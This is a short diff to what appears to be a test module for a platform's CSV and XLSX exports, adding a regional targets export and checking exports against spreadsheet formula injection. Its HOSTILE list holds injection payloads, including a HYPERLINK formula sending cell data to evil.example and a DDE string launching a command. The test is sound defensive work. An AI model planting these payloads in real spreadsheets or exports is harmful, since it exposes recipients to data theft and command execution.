@@ -28,6 +28,10 @@ EXPORTS = {
     "exhibition.leads_export": ["/f/{slug}/exhibitor/leads.csv"],
     "recommendations.export_csv": ["/f/{slug}/manage/recommendations/export.csv"],
     "series.export": ["/series/indicators.csv", "/series/indicators.xlsx"],
+    "series.targets_export": [
+        "/series/region/draa-tafilalet/targets.csv",
+        "/series/region/draa-tafilalet/targets.xlsx",
+    ],
     "partnerships.series_tracker_export": ["/series/partnerships.csv", "/series/partnerships.xlsx"],
     "messages.survey_answers": [
         "/f/{slug}/manage/messages/survey/answers.csv",
@@ -35,7 +39,7 @@ EXPORTS = {
     ],
 }
 #: exports of the whole series, read by a platform admin rather than the forum's organiser
-SERIES_WIDE = {"series.export", "partnerships.series_tracker_export"}
+SERIES_WIDE = {"series.export", "series.targets_export", "partnerships.series_tracker_export"}
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR"]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
